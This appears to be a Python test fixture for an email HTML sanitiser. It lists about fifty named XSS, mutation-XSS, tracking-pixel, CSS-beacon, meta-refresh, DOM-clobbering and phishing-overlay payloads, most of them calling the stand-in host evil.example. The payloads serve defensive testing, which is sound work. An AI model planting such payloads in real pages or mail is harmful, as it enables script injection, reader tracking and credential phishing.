"""Tricks that mail plays on its readers' browsers, each a piece of HTML beside words that must stay readable.

``RUN`` is what a trick does where a script of its runs; ``OUT`` is where it asks for something.
"""

from __future__ import annotations

RUN = "document.title='run'"
OUT = "https://evil.example/t"

TRICKS = {
    "script": f"<script>{RUN}</script>",
    "script-case": f"<ScRiPt src={OUT}.js></sCrIpT>",
    "script-broken": f"<<script>{RUN}//<</script>",
    "script-null": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "image-error": f'<img src=x onerror="{RUN}">',
    "image-slash": f'<img/src="x"/onerror="{RUN}">',
    "image-javascript": f'<img src="javascript:{RUN}">',
    "pixel": f'<img src="{OUT}.gif" width=1 height=1>',
    "pixel-srcset": f'<img srcset="{OUT}.gif 1x"><picture><source srcset="{OUT}.webp"></picture>',
    "pixel-lazy": f'<img loading="lazy" src="{OUT}.gif">',
    "body-load": f'<body onload="{RUN}" background="{OUT}.png">',
    "svg-load": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>x</text></a></svg>',
    "svg-use": f'<svg><use href="{OUT}.svg#x"/><image href="{OUT}.png"/></svg>',
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "math": f'<math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>',
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f'<template><img src=x onerror="{RUN}"></template>',
    "iframe": f'<iframe src="{OUT}"></iframe>',
    "iframe-srcdoc": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "iframe-javascript": f'<iframe src="javascript:{RUN}"></iframe>',
    "object": f'<object data="{OUT}.swf"><embed src="{OUT}.swf"></object>',
    "link-style": f'<link rel="stylesheet" href="{OUT}.css"><link rel="prefetch" href="{OUT}">',
    "link-dns": '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">',
    "style-import": f"<style>@import url({OUT}.css); p {{ background: url({OUT}.png) }}</style>",
    "style-font": f"<style>@font-face {{ font-family: x; src: url({OUT}.woff) }} p {{ font-family: x }}</style>",
    "style-attribute": f'<p style="background:url({OUT}.png);list-style-image:url({OUT}.gif)">x</p>',
    "style-cover": '<div style="position:fixed;inset:0;z-index:99;background:white">Your session has ended</div>',
    "style-old": f'<p style="width:expression({RUN});-moz-binding:url({OUT}.xml#x)">x</p>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={OUT}">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "form": f'<form action="{OUT}"><input name=password autofocus onfocus="{RUN}"><button>Go</button></form>',
    "form-action": f'<button formaction="javascript:{RUN}">x</button><input type=image src="{OUT}.png">',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "media": f'<video src="{OUT}.mp4" poster="{OUT}.png" autoplay onloadstart="{RUN}"></video><audio src="{OUT}.mp3">',
    "table": f'<table background="{OUT}.png"><td background="{OUT}.png">x</td></table>',
    "javascript-link": f'<a href="java\tscript:{RUN}">x</a><a href=" &#106;avascript:{RUN}">x</a>',
    "data-link": '<a href="data:text/html,<script>parent.document.title=1</script>">x</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">x</a><a href="file:///etc/passwd">x</a>',
    "own-link": '<a href="/sign-out">x</a><a href="//evil.example/">x</a>',
    "target": '<a href="https://evil.example/" target="_top" ping="https://evil.example/ping">x</a>',
    "clobber": '<img name="body"><form id="help" name="csrf"><input name="dataset"></form>',
    "id-clobber": '<p id="main">x</p><p id="toasts">x</p><p data-action="theme" class="bar">x</p>',
    "comment": f'<!--[if gte mso 4]><script>{RUN}</script><![endif]--><!--><img src=x onerror="{RUN}">-->',
    "cdata": f'<![CDATA[<img src=x onerror="{RUN}">]]>',
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "select": f'<select><style></select><img src=x onerror="{RUN}"></style></select>',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; <img src=&#120; onerror=&#100;ocument.title='run'>",
    "utf7": "+ADw-script+AD4-document.title='run'+ADw-/script+AD4-",
    "bidi": "invoice\u202excod.exe \u2066\u2067\u2069 \u200b\u200d\ufeff",
    "long-word": "x" * 5000,
    "deep": "<div>" * 400 + "x" + "</div>" * 400,
}
